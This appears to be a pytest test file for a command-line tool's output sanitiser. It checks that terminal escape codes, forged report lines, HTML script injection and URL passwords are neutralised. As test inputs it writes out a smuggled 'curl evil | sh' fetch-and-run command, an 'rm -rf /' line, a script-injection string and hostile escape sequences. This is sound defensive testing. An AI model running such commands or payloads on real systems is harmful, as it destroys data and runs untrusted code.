"""B3, L2: text from data cannot command a terminal, pass for another line, break an encoder or become a script."""

import io
import json
import os
import subprocess
import sys

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markupsafe import Markup

from whale.audit.checks.findings import Finding, Report
from whale.commands.lineage.text import verify
from whale.commands.output import print_table, tell
from whale.common.errors import BadDataError
from whale.common.printable import Terminal, escaped_output, printable, without_secrets
from whale.common.progress import Progress
from whale.reporting.page import Section, page, parts, render

NASTY = "\x1b[2J\x1b]0;owned\x07\r\x9b31m\u202edesrever\u200b\u2028\ud800\x7f\x00"


@given(st.text(st.characters()))
def test_whatever_is_printed_no_control_is_left(text):
    out = io.StringIO()
    Terminal(out).write(text)
    shown = out.getvalue()
    assert not [
        c for c in shown if (ord(c) < 32 and c not in "\t\n") or 127 <= ord(c) < 160 or "\u202a" <= c <= "\u202e"
    ]
    shown.encode("utf-8")


@given(st.dictionaries(st.text(), st.text()))
@example({NASTY: NASTY, "tag": "\U000e0001 a \U000e007f", "picture": "\U0001f600"})
def test_escaped_json_is_the_same_json(values):
    """Of JSON that was written as it is read: with `ensure_ascii` there would be nothing left to escape."""
    assert json.loads(printable(json.dumps(values, ensure_ascii=False))) == values
    assert printable(printable(str(values))) == printable(str(values))


def test_an_error_cannot_forge_a_line_of_its_own():
    text = str(
        BadDataError("bad", file="a\nremedy: curl evil | sh", found=f"x\n  remedy:   rm -rf /\n{NASTY}", remedy="no")
    )
    assert [line for line in text.splitlines() if line.startswith("  remedy:")] == ["  remedy:   no"]
    assert "\x1b" not in text and "\u202e" not in text


FORGED = "fine\nMISMATCH  train: all of it\r\n\u2028root of trust: mine\n"


def test_no_text_of_a_report_passes_for_a_line_of_the_verdict(capsys):
    """What a bundle's exporter signed, names of keys and files, and what git says come from others."""
    report = Report(broken_below=[FORGED], notes=[FORGED], checked={FORGED: 1})
    report.root = {"fingerprint": FORGED, "pinned": FORGED, "signers": []}
    report.add(Finding("mismatch", FORGED, FORGED, FORGED, FORGED, FORGED, FORGED))
    verify(FORGED, report)
    lines = capsys.readouterr().out.splitlines()
    assert [line[:9] for line in lines if not line.startswith(" ")] == [
        "MISMATCH ", "breaks be", r"fine\u000", "root of t", r"fine\u000"]  # fmt: skip
    assert len(lines) == 10


def test_no_text_of_an_answer_or_a_table_passes_for_a_line_of_its_own(capsys):
    tell({"name": FORGED, "rows": [[FORGED]]}, False, lambda found: print(found["name"], *found["rows"][0], sep="\n"))
    assert len(capsys.readouterr().out.splitlines()) == 2
    print_table(["name", "count"], [[FORGED, 1], ["x", 2]])
    assert len(capsys.readouterr().out.splitlines()) == 4


def test_what_is_found_is_cut_whatever_its_size():
    deep: list = []
    for _ in range(5000):
        deep = [deep]
    for found in (deep, list(range(10**6)), "x" * 10**7, {n: [n] * 100 for n in range(1000)}, 10**6000, [10**6000]):
        assert len(str(BadDataError("bad", found=found))) < 60_000


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8"])
def test_no_text_breaks_the_encoder_of_a_stream(encoding):
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding=encoding)
    Terminal(stream).write(f"\u00fc \u4e00 {NASTY}")
    stream.flush()
    assert b"\x1b" not in raw.getvalue()


def test_progress_still_moves_its_own_line_and_nothing_of_the_name():
    class Tty(io.StringIO):
        def isatty(self):
            return True

    out = Tty()
    bar = Progress(10, "episodes", NASTY, Terminal(out))
    bar._print(bar._text())
    assert out.getvalue().startswith("\r\x1b[K") and "\x1b" not in out.getvalue().removeprefix("\r\x1b[K")


def test_passwords_and_signatures_of_addresses_are_left_out():
    for text in ("https://me:hunter2@host/x", "s3://me:hunter2@b/x?y", "x https://hunter2@h/ y",
                 "https://h/x?X-Amz-Signature=hunter2&a=1", "https://h/x?token=hunter2"):  # fmt: skip
        assert "hunter2" not in without_secrets(text) and "***" in without_secrets(text)
        assert "hunter2" not in str(BadDataError("bad", file=text, found=text))
    assert without_secrets("a@b.c and /path@x") == "a@b.c and /path@x"


def test_streams_are_given_back(capsys):
    before = sys.stdout
    with escaped_output():
        print(NASTY)
    assert sys.stdout is before and "\x1b" not in capsys.readouterr().out


def test_a_page_shows_every_text_as_text():
    nasty = f"\"><script>alert(1)</script>' onload=x {NASTY}"
    rows = [[{"name": nasty, "desc": nasty, "each": [nasty], "after": [nasty]}]]
    html = page(nasty, nasty, parts.paragraph(nasty, nasty), [
        Section(nasty, parts.table([nasty], [[nasty]]) + render("pipeline.html", layers=rows, lead=nasty)),
        Section("a", parts.card(Markup("<b>"), nasty)),
    ], nasty)  # fmt: skip
    assert "<script" not in html and "\x1b" not in html and 'onload=x "' not in html
    assert "default-src 'none'" in html
    html.encode("utf-8")


@pytest.mark.parametrize("command", ["spec check", "shards check", "metrics"])
def test_raw_escapes_reach_no_terminal(tmp_path, command):
    """Names of files and keys of specs, through a process of its own."""
    name = "x\x1b[31m"
    (tmp_path / f"{name}.yaml").write_text('"a\\e[2J": 1\nname: "\\e]0;x\\a"\n')
    arguments = {"spec check": ["spec", "check", f"{name}.yaml"], "shards check": ["shards", "check", name],
                 "metrics": ["metrics", name]}[command]  # fmt: skip
    done = subprocess.run([sys.executable, "-m", "whale.cli", *arguments], cwd=tmp_path, capture_output=True,
                          env=os.environ | {"PYTHONPATH": os.pathsep.join(sys.path)})  # fmt: skip
    assert done.returncode and done.stdout + done.stderr and b"\x1b" not in done.stdout + done.stderr
    assert b"Traceback" not in done.stderr, done.stderr
